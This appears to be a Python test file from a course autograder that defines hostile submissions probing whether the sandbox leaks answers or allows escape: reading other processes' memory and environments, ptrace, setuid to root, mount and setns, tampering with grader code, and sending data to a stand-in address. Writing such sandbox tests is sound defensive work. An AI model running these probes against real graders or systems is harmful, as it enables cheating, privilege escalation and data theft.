"""Ways to find out what a right answer is, or what nobody in the sandbox should know.

Those that find something answer rightly, and so would gain the points.
"""

from __future__ import annotations

from staff.bank.answer import ROOT
from staff.tests.grading.hostile.hostile import Hostile

_IF_FOUND = "return (np.maximum(x, 0) if find(x) else np.zeros_like(x)), x\n"
_PLACES = [str(ROOT)]


def _spy(name: str, find: str, *, needs_walls: bool = True) -> Hostile:
    """Return a kind that answers rightly if its function `find` finds something."""
    return Hostile(name, _IF_FOUND, find, states=("wrong", "no answer"), needs_walls=needs_walls)


KINDS = [
    _spy(
        "walks stack frames for the expected value",
        """
        def find(x):
            import sys
            frame, words = sys._getframe(), ("want", "expected", "causes", "rng", "seed")
            while frame:
                for scope in (frame.f_locals, frame.f_globals):
                    if any(scope.get(w) is not None for w in words[:4]): return True
                frame = frame.f_back
        """,
        needs_walls=False,
    ),
    _spy(
        "searches the heap for the expected value",
        """
        def find(x):
            import gc
            want = np.maximum(x, 0)
            for thing in gc.get_objects():
                for value in (thing.values() if type(thing) is dict else [thing]):
                    if type(value) is np.ndarray and value.shape == x.shape:
                        if np.array_equal(value, want) and not np.array_equal(x, want): return True
        """,
        needs_walls=False,
    ),
    _spy(
        "imports the checks, their definitions or the grader",
        """
        def find(x):
            import importlib
            for name in ("cs682.checks.slow", "cs682.checks.run", "staff.grading.judging.core",
                         "staff.grading.judging.secret", "staff.grading.judging.merits", "staff.bank.judge",
                         "tests.reference"):
                try: held = vars(importlib.import_module(name))
                except ImportError: continue
                if any(not key.startswith("__") for key in held): return True
        """,
        needs_walls=False,
    ),
    _spy(
        "reads the reference",
        f"""
        def find(x):
            import os
            for place in {_PLACES}:
                for folder, _, names in os.walk(place):
                    for name in names:
                        if name.endswith(".py"):
                            try: text = open(os.path.join(folder, name)).read()
                            except (OSError, ValueError): continue
                            if "# BEGIN " + "SOLUTION" in text: return True
        """,
    ),
    _spy(
        "reads other submissions and the grader's own folders",
        """
        def find(x):
            import glob, os
            own = __file__.rpartition("/student/")[0]
            for path in glob.glob("/tmp/cs682-box-*/*") + ["/tmp/cs682-sandbox-users"]:
                if path == own: continue
                try: os.listdir(path); return True
                except OSError: pass
        """,
    ),
    _spy(
        "reads the memory of other processes",
        """
        def find(x):
            import os
            for pid in filter(str.isdigit, os.listdir("/proc")):
                if int(pid) == os.getpid(): continue
                try:
                    start = int(open(f"/proc/{pid}/maps").readline().partition("-")[0], 16)
                    with open(f"/proc/{pid}/mem", "rb") as memory:
                        memory.seek(start)
                        if memory.read(1): return True
                except (OSError, ValueError): pass
        """,
    ),
    _spy(
        "reads environments and command lines for a seed",
        """
        def find(x):
            import glob, os
            for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/task/*/environ"):
                try: text = open(path, "rb").read()
                except OSError: continue
                if b"CS682_SECRET" in text: return True
            return "CS682_SECRET" in " ".join(os.environ)
        """,
    ),
    _spy(
        "attaches to other processes as a debugger",
        """
        def find(x):
            import ctypes, os
            libc = ctypes.CDLL(None)
            for pid in filter(str.isdigit, os.listdir("/proc")):
                if int(pid) not in (1, os.getpid()) and libc.ptrace(16, int(pid), 0, 0) == 0:
                    libc.ptrace(17, int(pid), 0, 0)
                    return True
        """,
    ),
    _spy(
        "follows the grader's open files",
        """
        def find(x):
            import glob, os
            for path in glob.glob("/proc/[0-9]*/fd/*"):
                if path.split("/")[2] == str(os.getpid()): continue
                try: os.readlink(path); return True
                except OSError: pass
        """,
    ),
    _spy(
        "becomes another user",
        """
        def find(x):
            import os
            for become in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0),
                           lambda: os.setgid(0), lambda: os.setgroups([0])):
                try: become(); return True
                except OSError: pass
            return os.getuid() == 0
        """,
    ),
    _spy(
        "mounts, and enters other namespaces",
        """
        def find(x):
            import ctypes, os
            libc = ctypes.CDLL(None)
            if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0: return True
            for pid in filter(str.isdigit, os.listdir("/proc")):
                for kind in ("mnt", "pid", "net", "user"):
                    try: fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
                    except OSError: continue
                    if int(pid) != os.getpid() and libc.setns(fd, 0) == 0: return True
        """,
    ),
    _spy(
        "changes the code that runs it",
        """
        def find(x):
            import os, sys
            for name in ("staff.grading.sandbox.child", "staff.grading.sandbox.wire", "cs682.layers", "numpy"):
                path = sys.modules[name].__file__
                for target in (path, os.path.dirname(path) + "/evil.py"):
                    try: open(target, "a").close(); return True
                    except OSError: pass
        """,
    ),
    _spy(
        "sends data over the network",
        """
        def find(x):
            import socket
            for address in (("127.0.0.1", 47_682), ("192.0.2.1", 53)):
                for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                    try:
                        s = socket.socket(socket.AF_INET, kind)
                        s.settimeout(0.3)
                        s.connect(address)
                        s.send(b"exfiltrated")
                        return True
                    except OSError: pass
        """,
    ),
    _spy(
        "listens for others on the network",
        """
        def find(x):
            import socket
            try: socket.create_server(("0.0.0.0", 47_683)); return OUTSIDE
            except OSError: return False
        OUTSIDE = len(__import__("socket").if_nameindex()) > 1
        """,
    ),
    _spy(
        "leaves notes for the next process",
        """
        def find(x):
            import glob, os
            if glob.glob("/tmp/cs682-note-*") or glob.glob("/dev/shm/cs682-note-*"): return True
            for place in ("/tmp", "/dev/shm", "/var/tmp"):
                try: open(f"{place}/cs682-note-{os.getpid()}", "w").close()
                except OSError: pass
        find(None)  # what a check sees in one process is none of another's
        FOUND, find = None, lambda x: False
        """,
    ),
]
